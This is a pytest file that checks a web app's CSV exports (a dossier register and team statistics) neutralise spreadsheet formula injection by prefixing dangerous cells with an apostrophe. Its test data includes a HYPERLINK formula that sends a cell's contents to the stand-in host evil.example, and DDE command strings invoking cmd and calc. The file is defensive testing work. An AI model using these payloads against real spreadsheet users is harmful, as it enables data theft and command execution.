"""CSV formula injection: every cell a spreadsheet would evaluate is written as text, in the
pure helper and through the real exports (the register, Mẫu 07; the teams' numbers)."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest
from helpers import login, staff_client, submit_dossier, submit_via_services

from app.assist.models import CommunityTeam
from app.core import clock
from app.core.roles import Role
from app.core.spreadsheet import FORMULA_STARTS, csv_chunks, safe_cell, safe_row
from app.dossiers.models import Dossier
from app.extensions import db

APP = Path(__file__).resolve().parents[2] / "app"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
MONDAY = datetime(2026, 11, 23, 9, 0)


def parse(chunks) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = "".join(chunks)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def evaluated_by_a_spreadsheet(cell: str) -> bool:
    """What Excel and LibreOffice read as a formula (or a DDE call) when they open a CSV."""
    return cell.startswith(FORMULA_STARTS)


# --- the pure helper ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL_NAME, "'" + EVIL_NAME),
        ("=1+1", "'=1+1"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),  # text typed by someone is text, even when it looks like a number
        ("Nguyễn Thị Hoa", "Nguyễn Thị Hoa"),
        ("Tổ 3 = khối 3", "Tổ 3 = khối 3"),  # only the first character matters
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (0, 0),
        (42, 42),
        (-3, -3),  # a number the app computed stays a number
        (1.5, 1.5),
        (True, "True"),
    ],
)
def test_safe_cell(value, expected):  # type: ignore[no-untyped-def]
    assert safe_cell(value) == expected


def test_every_cell_of_the_file_is_neutralised_headers_too():
    rows = [["=cmd", 3, "+1", "ok"], ["@x", -1, "\tx", "-y"]]
    parsed = parse(csv_chunks(["=H1", "Cột"], rows))
    assert parsed == [
        ["'=H1", "Cột"],
        ["'=cmd", "3", "'+1", "ok"],
        ["'@x", "-1", "'\tx", "'-y"],
    ]
    assert safe_row(["=a", 2]) == ["'=a", 2]


def test_a_long_file_leaves_in_pieces_and_loses_nothing():
    rows = [[f"=row{n}", n, "Lò Thị Xuân"] for n in range(3000)]
    chunks = list(csv_chunks(["a", "b", "c"], rows))
    assert len(chunks) > 5
    assert all(len(chunk) < 9000 for chunk in chunks)
    parsed = parse(chunks)
    assert len(parsed) == 3001
    assert parsed[-1] == ["'=row2999", "2999", "Lò Thị Xuân"]


def test_every_csv_the_app_writes_goes_through_the_helper():
    """No other module writes CSV itself (it would bypass the neutralising)."""
    writers = [
        path.relative_to(APP).as_posix()
        for path in APP.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["core/spreadsheet.py"]


# --- through the real exports ---------------------------------------------------------------


def test_a_citizen_named_like_a_formula_is_text_in_the_register(app, make_user, procedure) -> None:  # type: ignore[no-untyped-def]
    clock.freeze(MONDAY)
    citizen = make_user(full_name=EVIL_NAME)
    dossier: Dossier = submit_dossier(app, citizen, procedure)
    officer, _ = staff_client(app, make_user, Role.OFFICER, [dossier.receiving_unit])

    response = officer.get("/can-bo/so-theo-doi.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    row = next(r for r in rows if dossier.code in r)
    assert row[3] == "'" + EVIL_NAME  # the name, shown as typed, never evaluated
    assert not any(evaluated_by_a_spreadsheet(cell) for r in rows for cell in r)


def test_a_team_named_like_a_formula_is_text_in_the_teams_numbers(
    app, make_user, procedure
) -> None:  # type: ignore[no-untyped-def]
    clock.freeze(datetime(2026, 12, 1, 10, 0))
    village = "@SUM(1+1)*cmd|' /C calc'!A0"
    team = CommunityTeam(name=EVIL_NAME, commune_code="17329", village=village)
    db.session.add(team)
    db.session.commit()
    citizen = make_user(full_name="-2+3+cmd|' /C calc'!A0")
    dossier = submit_via_services(citizen, procedure, token="f1")
    dossier.assist_team_id = team.id
    dossier.submitted_at = datetime(2026, 11, 24, 9, 0)
    db.session.commit()
    client = app.test_client()
    login(client, make_user(role=Role.ADMIN, full_name="Quản trị"))

    response = client.get("/ho-tro/thong-ke.csv", query_string={"tu": "2026-11-23"})

    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    row = next(r for r in rows if EVIL_NAME in r[1])
    assert row[1] == "'" + EVIL_NAME
    assert row[2] == "'" + village
    assert row[7] == "1"  # the counts stay numbers
    assert citizen.full_name not in text  # and no personal data, as before
    assert not any(evaluated_by_a_spreadsheet(cell) for r in rows for cell in r)
